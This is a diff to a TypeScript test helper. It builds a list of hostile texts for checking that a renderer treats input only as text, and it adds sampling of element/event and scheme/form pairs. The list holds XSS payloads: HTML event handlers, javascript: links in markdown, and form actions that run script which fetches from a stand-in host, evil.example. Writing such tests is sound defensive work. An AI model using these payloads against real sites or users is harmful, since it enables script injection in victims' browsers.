@@ -1,5 +1,6 @@
 import type { Page } from 'playwright-core';
 import { expect } from 'vitest';
+import { isSoak } from '../soak.ts';
 import type { Watched } from './chromium.ts';
 
 const act = 'globalThis.executed=1;fetch("https://evil.example/")';
@@ -38,16 +39,23 @@ const schemes = [
   '\u0001javascript:',
 ];
 
+/** In a soak each with each, otherwise a third of these pairs, in which every row and every form occurs. */
+const pairs = (rows: readonly string[], forms: readonly ((row: string) => string)[]): readonly string[] =>
+  rows.flatMap((row, at) => forms.filter((_, of) => isSoak || (at + of) % 3 === 0).map((form) => form(row)));
+
 /** What would run, load something, break the layout or take long if a text were more than a text. */
 export const hostileTexts: readonly string[] = [
-  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}='${act}'>`)),
-  ...schemes.flatMap((scheme) => [
-    `[a](${scheme}${act})`,
-    `![a](${scheme}${act})`,
-    `<${scheme}${act}>`,
-    `[a]: ${scheme}${act}\n\n[a]`,
-    `<a href="${scheme}${act}">a</a>`,
-    `<form action="${scheme}${act}"><button>a</button></form>`,
+  ...pairs(
+    elements,
+    events.map((event) => (element) => `<${element} ${event}='${act}'>`),
+  ),
+  ...pairs(schemes, [
+    (scheme) => `[a](${scheme}${act})`,
+    (scheme) => `![a](${scheme}${act})`,
+    (scheme) => `<${scheme}${act}>`,
+    (scheme) => `[a]: ${scheme}${act}\n\n[a]`,
+    (scheme) => `<a href="${scheme}${act}">a</a>`,
+    (scheme) => `<form action="${scheme}${act}"><button>a</button></form>`,
   ]),
   ...[
     '"',
